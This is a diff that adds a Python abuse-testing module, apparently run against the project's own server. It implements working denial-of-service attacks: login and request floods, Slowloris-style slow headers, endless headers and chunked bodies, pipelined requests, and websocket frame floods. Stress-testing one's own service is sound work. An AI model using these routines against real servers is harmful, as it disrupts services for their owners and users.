@@ -1,0 +1,194 @@
+"""What a stranger's script of twenty lines does, in a process of its own:
+
+python -m tests.abuse.attack NAME HOST PORT CODE COOKIE SECONDS
+"""
+
+from __future__ import annotations
+
+import asyncio
+import sys
+import time
+from collections.abc import Awaitable, Callable
+from contextlib import suppress
+from dataclasses import dataclass
+from itertools import count
+
+import httpx
+from websockets.frames import Frame, Opcode
+
+FROM = ("127.0.0.2", 0)  # another place than everybody else's, where nothing stands between
+AT_ONCE = 40
+
+
+@dataclass(frozen=True)
+class Target:
+    host: str
+    port: int
+    code: str
+    cookie: str
+    end: float
+
+    @property
+    def site(self) -> str:
+        return f"http://{self.host}:{self.port}"
+
+    @property
+    def goes_on(self) -> bool:
+        return time.monotonic() < self.end
+
+    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
+        return await asyncio.open_connection(self.host, self.port, local_addr=FROM)
+
+    async def pour(self, head: bytes, more: bytes, *, reads: bool = True) -> None:
+        """Send without end over one connection, and over the next when that was cut off."""
+        while self.goes_on:
+            with suppress(OSError):
+                reader, writer = await self.connect()
+                if not reads:
+                    reader._transport.pause_reading()
+                try:
+                    writer.write(head)
+                    while self.goes_on and not writer.transport.is_closing():
+                        writer.write(more)
+                        async with asyncio.timeout(1):
+                            await writer.drain()
+                        await asyncio.sleep(0)
+                except TimeoutError:
+                    pass
+                finally:
+                    writer.transport.abort()
+            await asyncio.sleep(0.01)
+
+    async def many(self, ask: Callable[[httpx.AsyncClient, int], Awaitable[object]]) -> None:
+        """As many requests at once as a script opens, again and again."""
+        numbers = count()
+        transport = httpx.AsyncHTTPTransport(
+            local_address=FROM[0], limits=httpx.Limits(max_connections=None)
+        )
+        async with httpx.AsyncClient(base_url=self.site, transport=transport, timeout=60) as client:
+
+            async def repeat() -> None:
+                while self.goes_on:
+                    with suppress(httpx.HTTPError):
+                        async with asyncio.timeout(max(0.01, self.end - time.monotonic())):
+                            await ask(client, next(numbers))
+
+            with suppress(TimeoutError):
+                await asyncio.gather(*(repeat() for _one in range(AT_ONCE)), return_exceptions=True)
+
+    def handshake(self) -> bytes:
+        lines = [
+            f"GET /ws/{self.code}/ HTTP/1.1",
+            f"Host: {self.host}:{self.port}",
+            "Upgrade: websocket",
+            "Connection: Upgrade",
+            "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
+            "Sec-WebSocket-Version: 13",
+            f"Cookie: deelnemer-{self.code}={self.cookie}",
+        ]
+        return "\r\n".join([*lines, "", ""]).encode()
+
+
+def frames(opcode: Opcode, size: int = 0, *, fin: bool = True, times: int = 5000) -> bytes:
+    return Frame(opcode, b"a" * size, fin).serialize(mask=True) * times
+
+
+async def logins(target: Target) -> None:
+    async def login(client: httpx.AsyncClient, number: int) -> None:
+        token = client.cookies.get("csrftoken")
+        if not token:
+            await client.get("/desk/login/")
+            token = client.cookies.get("csrftoken", "")
+        fields = {"username": f"naam-{number}", "password": "fout", "csrfmiddlewaretoken": token}
+        await client.post("/desk/login/", data=fields, headers={"Referer": target.site})
+
+    await target.many(login)
+
+
+async def codes(target: Target) -> None:
+    await target.many(lambda client, number: client.get(f"/{10_000_000 + number}/"))
+
+
+async def pages(target: Target) -> None:
+    await target.many(lambda client, number: client.get("/" if number % 2 else "/desk/login/"))
+
+
+async def health(target: Target) -> None:
+    await target.many(lambda client, _number: client.get("/tips/"))
+
+
+async def continuations(target: Target) -> None:
+    begun = frames(Opcode.TEXT, fin=False, times=1)
+    await target.pour(target.handshake() + begun, frames(Opcode.CONT, fin=False))
+
+
+async def pings(target: Target) -> None:
+    await target.pour(target.handshake(), frames(Opcode.PING, 100))
+
+
+async def pongs(target: Target) -> None:
+    await target.pour(target.handshake(), frames(Opcode.PONG))
+
+
+async def unread_pings(target: Target) -> None:
+    await target.pour(target.handshake(), frames(Opcode.PING, 125, times=200), reads=False)
+
+
+async def messages(target: Target) -> None:
+    await target.pour(target.handshake(), frames(Opcode.TEXT, 10, times=1000))
+
+
+async def large_messages(target: Target) -> None:
+    await target.pour(target.handshake(), frames(Opcode.TEXT, 16_000, times=10))
+
+
+async def endless_line(target: Target) -> None:
+    await target.pour(b"GET /", b"a" * 65_536)
+
+
+async def endless_headers(target: Target) -> None:
+    await target.pour(b"GET / HTTP/1.1\r\n", b"a: b\r\n" * 5000)
+
+
+async def endless_body(target: Target) -> None:
+    head = b"POST /healthz HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
+    await target.pour(head, b"10000\r\n" + b"a" * 65_536 + b"\r\n")
+
+
+async def pipelined(target: Target) -> None:
+    await target.pour(b"", b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" * 2000)
+
+
+async def slow_heads(target: Target) -> None:
+    open_ones = []
+    with suppress(OSError):
+        for _number in range(500):
+            _reader, writer = await target.connect()
+            writer.write(b"GET / HTTP/1.1\r\nHost: a\r\nX: ")
+            open_ones.append(writer)
+    while target.goes_on:
+        for writer in open_ones:
+            if not writer.transport.is_closing():
+                writer.write(b"a")
+        await asyncio.sleep(0.2)
+    for writer in open_ones:
+        writer.transport.abort()
+
+
+ATTACKS: dict[str, Callable[[Target], Awaitable[None]]] = {
+    attack.__name__: attack
+    for attack in (
+        *(logins, codes, pages, health),
+        *(continuations, pings, pongs, unread_pings, messages, large_messages),
+        *(endless_line, endless_headers, endless_body, pipelined, slow_heads),
+    )
+}
+
+
+def main(name: str, host: str, port: str, code: str, cookie: str, seconds: str) -> None:
+    target = Target(host, int(port), code, cookie, time.monotonic() + float(seconds))
+    asyncio.run(ATTACKS[name](target))
+
+
+if __name__ == "__main__":
+    main(*sys.argv[1:])
